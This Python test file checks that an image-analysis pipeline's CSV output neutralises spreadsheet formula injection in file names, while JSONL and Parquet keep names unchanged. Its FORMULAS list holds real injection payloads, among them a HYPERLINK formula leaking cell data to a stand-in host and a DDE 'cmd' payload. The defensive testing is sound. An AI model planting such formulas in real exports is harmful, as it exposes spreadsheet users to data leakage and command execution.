"""No name becomes a formula where somebody opens the rows' CSV in a spreadsheet."""

import csv
import json

import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.rows.files import open_output, read_rows
from pipeline.rows.formats import Csv
from pipeline.rows.rows import FIELDS, Row
from tests.test_rows import MODELS, face

FORMULAS = (
    '=HYPERLINK("http://x.example?"&A1,"a").jpg',
    "=cmd|' /C calc'!A0.jpg",
    "+1.jpg",
    "-2+3.jpg",
    "@SUM(1).jpg",
    "\t=1.jpg",
    "\r=1.jpg",
    "\n=1.jpg",
    "  =1.jpg",
    "\xa0=1.jpg",
    "＝1.jpg",
    "'=1.jpg",
    "''-1.jpg",
)
HARMLESS = ("a=b.jpg", "'a.jpg", "'", "./-a.jpg", "1-2.jpg", "é.jpg")


def begins_a_formula(cell: str) -> bool:
    return cell.lstrip()[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n")


@pytest.mark.parametrize("path", FORMULAS)
def test_a_name_is_text_in_csv_and_comes_back_as_it_was(tmp_path, path):
    rows = tmp_path / "rows.csv"
    odd = face(path, model="=model()")
    odd.error = "@error"
    with open_output(rows, ["=model()"]) as writer:
        writer.write([odd])
        writer.write([face("end.jpg", model="=model()")])
    with open(rows, newline="", encoding="utf-8") as file:
        cells = list(csv.reader(file))[1]
    for cell, value in zip(cells, odd.as_dict(FIELDS).values(), strict=True):
        assert not begins_a_formula(cell) or not isinstance(value, str)
        assert str("" if value is None else value) in cell
    assert cells[FIELDS.index("left")] == "-3"  # a number, not text
    assert next(read_rows(rows)) == odd.as_dict(FIELDS)
    with open_output(rows, ["=model()"], True) as writer:
        assert writer.done == {path}


def test_other_formats_have_the_name_itself(tmp_path):
    for suffix in (".jsonl", ".parquet"):
        with open_output(tmp_path / f"rows{suffix}", MODELS) as writer:
            for path in FORMULAS:
                writer.write([face(path)])
    lines = (tmp_path / "rows.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    assert [json.loads(line)["path"] for line in lines] == list(FORMULAS)
    table = pyarrow.parquet.read_table(tmp_path / "rows.parquet")
    assert table["path"].to_pylist() == list(FORMULAS)


@pytest.mark.parametrize("path", HARMLESS)
def test_other_names_stay_as_they_are(path):
    record = Csv.encode(face(path).as_dict(FIELDS)).decode()
    assert record.startswith(f"{path},0,-3,")


def test_names_are_not_cut_where_a_semicolon_or_a_tab_parts_the_fields(tmp_path):
    record = Csv.encode(face("x;=1+1\t=2.jpg").as_dict(FIELDS)).decode()
    assert record.startswith('"x;=1+1\t=2.jpg",0,')


def test_rows_of_earlier_versions_keep_their_names(tmp_path):
    rows = tmp_path / "rows.csv"
    rows.write_text(
        ",".join(FIELDS) + "\n=1.jpg,,,,,,,,no face,,meso4,,,,,,,\na.jpg,,,,,,,,no face,,,,,,,,,\n"
    )
    assert [row["path"] for row in read_rows(rows)] == ["=1.jpg", "a.jpg"]


signs = st.text(st.sampled_from("'=-+@ \t\r\n;\",x\xa0＝"), min_size=1, max_size=6)


@given(path=signs, error=signs)
def test_no_two_names_become_one(path, error):
    row = Row(path=path, verdict="error", reason=error).as_dict(FIELDS)
    record = Csv.encode(row)
    assert Csv(FIELDS).decode(record) == row
    [cells] = csv.reader(record.decode().removesuffix("\n").splitlines(keepends=True))
    assert not begins_a_formula(cells[0]) and not begins_a_formula(cells[-1])
